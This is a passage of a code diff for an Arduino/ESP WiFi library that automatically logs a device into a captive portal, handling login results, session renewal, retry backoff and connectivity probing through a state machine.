+    case LOGIN_OK:
+      Serial.println("[PortalLib] Login successful.");
+      break;
+    case LOGIN_ALREADY_LOGGED_IN:
+      Serial.println("[PortalLib] Already logged in.");
+      break;
+    case LOGIN_UNCONFIRMED:
+      Serial.println("[PortalLib] Login response not recognised, verifying.");
+      break;
+    case LOGIN_BAD_CREDENTIALS:
+      Serial.println("[PortalLib] Login rejected: check username and password.");
+      break;
+    case LOGIN_QUOTA_EXCEEDED:
+      Serial.println("[PortalLib] Login rejected: quota or device limit reached.");
+      break;
+    default:
+      Serial.println("[PortalLib] Login failed, portal error.");
+      break;
+  }
+
+  bool loginSuccess = (_lastLoginResult == LOGIN_OK ||
+                       _lastLoginResult == LOGIN_ALREADY_LOGGED_IN ||
+                       _lastLoginResult == LOGIN_UNCONFIRMED);
+  if (_renewing && _lastLoginResult == LOGIN_ALREADY_LOGGED_IN) {
+    // This portal does not extend a running session; stop trying
+    Serial.println("[PortalLib] Portal does not renew sessions early, pre-emptive login off.");
+    _preemptiveLogin = false;
+    _renewing = false;
+  } else if (loginSuccess) {
+    _lastLoginTime = _lastLoginAttempt;
+    _sessionActive = true;
+    _onlineSinceLogin = false;
+    _renewing = false;
+    _renewHeld = false;
+  } else {
+    _holdRenewal();
+  }
+
+  if (loginSuccess) {
+    // Reset retry counters on success
+    _rememberAP();
+    _failedAttempts = 0;
+    _retryBackoff = MIN_BACKOFF_MS;
+  } else {
+    _failedAttempts++;
+  }
+
+  // Keep the socket only for a quick retry; after a successful login it
+  // would just pin the TLS buffers until the next portal outage
+  if (loginSuccess || !keepAlive) {
+    _releaseSecureClient();
+  }
+  return loginSuccess;
+}
+
+void ArduinoUTMWiFiPortal::_onLoginDone(bool loginSuccess) {
+  if (loginSuccess) {
+    // Give the portal a moment to authorize the MAC before re-probing
+    _stateDeadline = millis() + VERIFY_DELAY_MS;
+    _state = PORTAL_VERIFYING;
+  } else if (_lastLoginResult == LOGIN_BAD_CREDENTIALS) {
+    // Retrying cannot help; wait for the next regular check
+    PORTAL_LOCK();
+    _currentInterval = _checkInterval;
+    PORTAL_UNLOCK();
+    _scheduleCheck(_checkInterval);
+    _state = PORTAL_IDLE;
+  } else {
+    if (_lastLoginResult == LOGIN_QUOTA_EXCEEDED) {
+      _retryBackoff = MAX_BACKOFF_MS;
+    }
+    _enterBackoff();
+  }
+}
+
+void ArduinoUTMWiFiPortal::keepConnected() {
+  if (_foreignTask()) {
+    return; // the portal task does this
+  }
+  unsigned long currentTime = millis();
+  bool trafficFailing = false;
+  bool trafficRecent = false;
+
+  if (_wifiEventsEnabled) {
+    _handleWiFiEvents(currentTime);
+  }
+
+  // Reassociate ourselves once connectWiFi() has handed us the network
+  bool wifiUp = (WiFi.status() == WL_CONNECTED);
+  bool resumed = wifiUp && _resumeSession();
+  if (_wifiSSID.length() > 0) {
+    if (!wifiUp) {
+      _reassociate(currentTime);
+    } else if (_assocStage != ASSOC_NONE) {
+      Serial.printf("[PortalLib] WiFi reconnected in %lu ms.\n", currentTime - _assocStarted);
+      _assocStage = ASSOC_NONE;
+      _rememberAP();
+      if (!resumed) {
+        _outage = true;
+        _state = PORTAL_LOGGING_IN;
+      }
+    }
+  }
+
+  if (wifiUp != _wifiWasUp && !resumed) {
+    _invalidateProbeCache();
+    if (!wifiUp) {
+      _setOnline(false);
+    }
+  }
+
+  // (Re)association: check right away instead of waiting out the interval
+  if (wifiUp && !_wifiWasUp && _state == PORTAL_IDLE && !resumed) {
+    _outage = true;
+    _nextCheckTime = currentTime + _random(FAST_START_JITTER_MS + 1);
+  }
+  _wifiWasUp = wifiUp;
+
+  // A lookup blocks: it is this call's step, the state machine waits
+  if (_dnsPrewarmPending > 0 && wifiUp) {
+    _prewarmDns(_dnsPrewarmPending == 2 ? _probeHost : _portalHost);
+    _dnsPrewarmPending--;
+    return;
+  }
+
+  switch (_state) {
+    case PORTAL_IDLE:
+      if (!wifiUp) {
+        break;
+      }
+      PORTAL_LOCK();
+      trafficFailing = (_portalSuspected || _trafficFailures >= _failureBurst);
+      if (trafficFailing) {
+        _portalSuspected = false;
+        _trafficFailures = 0;
+      }
+      trafficRecent = (_trafficSucceeded && currentTime - _lastTrafficSuccess < _currentInterval);
+      PORTAL_UNLOCK();
+
+      if (_renewalDue(currentTime)) {
+        // Log in again before the portal drops the session
+        Serial.println("[PortalLib] Portal session about to expire, renewing.");
+        _renewing = true;
+        _state = PORTAL_LOGGING_IN;
+      } else if (trafficFailing) {
+        // The application's own requests are failing: probe now
+        Serial.println("[PortalLib] Application traffic failing, checking portal.");
+        _state = PORTAL_PROBING;
+      } else if ((long)(currentTime - _nextCheckTime) >= 0) {
+        if (trafficRecent) {
+          // Recent application traffic got through: that is the check
+          _onProbeResult(true);
+        } else {
+          _state = PORTAL_PROBING;
+        }
+      }
+      break;
+
+    case PORTAL_PROBING:
+      if (_probeMode == PROBE_MULTI && !_probeCacheFresh() && _lookupProbeTarget()) {
+        // A lookup blocks: it is this step, the probe comes after the last
+        break;
+      }
+      if (_probeCacheFresh() ? _online : _probe(_stepTimeoutMs())) {
+        _onProbeResult(true);
+      } else if (_probeCutShort) {
+        // Stay here: the next step probes again
+      } else {
+        Serial.println("[PortalLib] Internet check failed. Retrying login.");
+        _onProbeResult(false);
+        _state = PORTAL_LOGGING_IN;
+      }
+      break;
+
+    case PORTAL_LOGGING_IN:
+      if (_tlsNegotiationPending()) {
+        // ESP8266: the portal's TLS buffer sizes are probed in steps of
+        // their own before the first login
+        _negotiateTlsBuffers(_stepTimeoutMs());
+        break;
+      }
+      // Connect and send; the portal's answer is collected by later steps
+      if (_beginLogin(_stepTimeoutMs())) {
+        // Waiting does not block, so the step budget does not bound it
+        _stateDeadline = millis() + HTTP_TIMEOUT_MS;
+        _state = PORTAL_AWAITING_LOGIN;
+      } else {
+        _onLoginDone(_recordLogin(false));
+      }
+      break;
+
+    case PORTAL_AWAITING_LOGIN:
+      if (_loginDropped()) {
+        // The portal closed the kept-alive socket instead of answering:
+        // connect and send again in a step of its own
+        Serial.println("[PortalLib] Kept-alive login connection dropped, reconnecting.");
+        _secureClient->stop();
+        _state = PORTAL_LOGGING_IN;
+      } else if (_loginResponseReady()) {
+        _onLoginDone(_recordLogin(_secureClient != NULL && _finishLogin(false)));
+      } else if ((long)(currentTime - _stateDeadline) >= 0) {
+        _abortLogin();
+        _onLoginDone(_recordLogin(false));
+      }
+      break;
+
+    case PORTAL_VERIFYING:
+      if ((long)(currentTime - _stateDeadline) < 0) {
+        break;
+      }
+      if (_probe(_stepTimeoutMs())) {
+        _onProbeResult(true);
+      } else if (!_probeCutShort) {
+        _enterBackoff();
+      }
+      break;
+
+    case PORTAL_BACKOFF:
+      if ((long)(currentTime - _stateDeadline) >= 0) {
+        _state = PORTAL_PROBING;
+      }
+      break;
+  }
+}